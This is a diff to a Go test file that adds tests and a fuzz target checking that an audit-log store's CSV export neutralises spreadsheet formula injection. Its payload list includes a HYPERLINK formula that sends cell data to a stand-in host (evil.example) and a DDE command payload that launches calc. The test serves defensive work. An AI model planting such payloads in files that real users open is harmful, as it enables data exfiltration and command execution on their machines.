@@ -92,6 +92,11 @@ func TestExportCSV(t *testing.T) {
 			fields = nil
 		}
 		got := Event{ID: row[0], Time: tm.UTC(), Type: row[2], Actor: row[3], Session: row[4], Fields: fields, PrevHash: row[6], Hash: row[7]}
+		// A cell a spreadsheet would run as a formula carries a leading
+		// quote; strip it to get the stored value back.
+		if strings.HasPrefix(got.Actor, "'=") {
+			got.Actor = got.Actor[1:]
+		}
 		if !reflect.DeepEqual(got, ev) {
 			t.Errorf("row %d = %+v\nwant %+v", i, got, ev)
 		}
@@ -168,4 +173,62 @@ func TestEncoderStandalone(t *testing.T) {
 	if want := string(bytes.Join(recs, []byte("\n"))) + "\n"; buf.String() != want {
 		t.Errorf("jsonl\n%s\nwant\n%s", buf.String(), want)
 	}
+}
+
+// TestExportCSVNeutralizesFormulas: no cell of a CSV export starts with
+// what a spreadsheet takes for a formula, whichever column the
+// client-supplied text lands in.
+func TestExportCSVNeutralizesFormulas(t *testing.T) {
+	payloads := []string{
+		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
+		"\t=1+1", "\r=1+1", " =1+1", "\u00a0=1", "\uff1d1+1", "＠x", "\n=1",
+	}
+	s, _ := newStore(t, Options{})
+	for _, p := range payloads {
+		mustAppend(t, s, Event{Type: TypeAuthFailed, Actor: p, Session: p, Fields: map[string]string{"user": p}})
+	}
+	var buf bytes.Buffer
+	if err := s.Export(context.Background(), &buf, Filter{}, FormatCSV); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(payloads)+1 {
+		t.Fatalf("%d rows, want %d", len(rows), len(payloads)+1)
+	}
+	for i, row := range rows[1:] {
+		for j, cell := range row {
+			if formulaLike(cell) {
+				t.Errorf("row %d column %s = %q: a spreadsheet would evaluate it", i, rows[0][j], cell)
+			}
+		}
+		if row[3] != "'"+payloads[i] {
+			t.Errorf("actor cell %q, want %q", row[3], "'"+payloads[i])
+		}
+	}
+}
+
+// formulaLike says whether a spreadsheet might run cell as a formula.
+func formulaLike(cell string) bool {
+	t := strings.TrimLeft(cell, " \u00a0\n")
+	return t != "" && (strings.ContainsRune("=+-@\t\r", rune(t[0])) || strings.ContainsAny(t[:min(len(t), 3)], "\uff1d\uff0b\uff0d\uff20"))
+}
+
+// FuzzNeutralizeCell: whatever the text, the cell never starts like a
+// formula, and text that needed nothing is left as is.
+func FuzzNeutralizeCell(f *testing.F) {
+	for _, s := range []string{"alice", "=1", "+1", "-1", "@a", "\t=1", " =1", "\uff1d1", ""} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		got := neutralizeCell(s)
+		if formulaLike(got) {
+			t.Fatalf("neutralizeCell(%q) = %q still looks like a formula", s, got)
+		}
+		if !formulaLike(s) && got != s {
+			t.Fatalf("neutralizeCell(%q) = %q changed harmless text", s, got)
+		}
+	})
 }
